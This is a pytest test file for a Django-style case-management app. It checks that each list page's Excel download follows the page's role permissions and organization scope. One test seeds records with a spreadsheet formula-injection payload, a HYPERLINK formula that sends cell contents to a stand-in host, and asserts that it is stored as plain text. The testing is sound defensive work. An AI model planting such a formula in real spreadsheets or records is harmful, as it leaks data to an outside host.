"""Every list page built on the one mechanism: its download obeys the page's permission and scope.

Found from the URL patterns, so a new list is covered as soon as it exists: a role refused the
page is refused the .xlsx too; a role that may open it downloads a workbook whose headers are
the declaration's, and another organization's records never appear in it.
"""

import re

import pytest

from yorisoi.core.roles import Role
from yorisoi.core.tables import TableMixin
from yorisoi.core.testing.clients import page_client
from yorisoi.core.testing.samples import make_sample, samples
from yorisoi.core.testing.tables import read_xlsx
from yorisoi.core.tests.test_routes import ROUTES, fill

MARKER = "他組織だけの一覧XYZ"
REFUSED = {403, 404}


def _lists():
    found = []
    for (pattern, name), entry in ROUTES:
        view = getattr(entry.callback, "view_class", None)
        if view is None or not issubclass(view, TableMixin) or re.search(r"<\w+:?\w*>", pattern):
            continue
        if entry.callback.view_initkwargs.get("export_only"):
            continue  # an old address of a list's download; the list itself is covered
        found.append((name, pattern, view))
    return found


LISTS = _lists()


def test_the_lists_are_found():
    names = {name for name, _pattern, _view in LISTS}
    assert {
        "cases:case_list",
        "cases:inquiry_list",
        "audit:event_list",
        "agencies:agency_list",
        "referrals:provision_list",
        "referrals:referral_list",
        "handovers:handover_list",
        "organizations:staff_list",
        "plans:plan_list",
        "evaluations:evaluation_list",
        "meetings:meeting_list",
        "contacts:search",
        "due:due_list",
        "evaluations:stalled",
        "evaluations:instrument_list",
    } <= names


def _table(view):
    table = view.table
    return table if not isinstance(table, property) else None


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "pattern", "view"), LISTS, ids=[n for n, _p, _v in LISTS])
def test_the_download_is_refused_where_the_page_is_and_stays_in_scope(
    name, pattern, view, org, other_org, make_member
):
    path = fill(pattern, "1")
    table = _table(view)
    model = table.model_class() if table is not None else None
    if model is not None and model in samples():
        make_sample(model, other_org, MARKER)
    params = {"q": MARKER} if name == "contacts:search" else {}
    for role in Role:
        client = page_client(make_member(org, role))
        page = client.get(path, params)
        download = client.get(path, {**params, "format": "xlsx"})
        if page.status_code in REFUSED:
            assert download.status_code == page.status_code, (name, role)
            continue
        assert page.status_code == 200, (name, role, page.status_code)
        sheet = read_xlsx(download)
        if table is not None:
            assert sheet.headers == table.sheet_headers(), name
        cells = " ".join(str(c.value) for row in sheet.rows for c in row)
        assert MARKER not in cells, (name, role)


FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"開く")'
FORMULA_SIGNS = ("=", "+", "-", "@")


@pytest.mark.django_db
def test_no_download_writes_a_formula_in_any_cell(org, make_member):
    """Records whose text starts like a formula, in every list: every cell of every download is
    checked, and a cell that starts with = + - @ is text, never a formula."""
    checked = carried = 0
    for name, pattern, view in LISTS:
        table = _table(view)
        model = table.model_class() if table is not None else None
        if model is not None and model in samples():
            make_sample(model, org, FORMULA)
        params = {"q": "HYPERLINK"} if name == "contacts:search" else {}
        for role in (Role.SUPERVISOR, Role.SYSADMIN, Role.CLERK):
            download = page_client(make_member(org, role)).get(
                fill(pattern, "1"), {**params, "format": "xlsx"}
            )
            if download.status_code != 200:
                continue
            for row in read_xlsx(download).rows:
                for cell in row:
                    checked += 1
                    assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_SIGNS):
                        assert cell.data_type == "s", (name, cell.coordinate)
                        carried += FORMULA in cell.value
            break
    assert checked > 100
    assert carried >= 5  # the formula text reached the sheets of many lists, as text
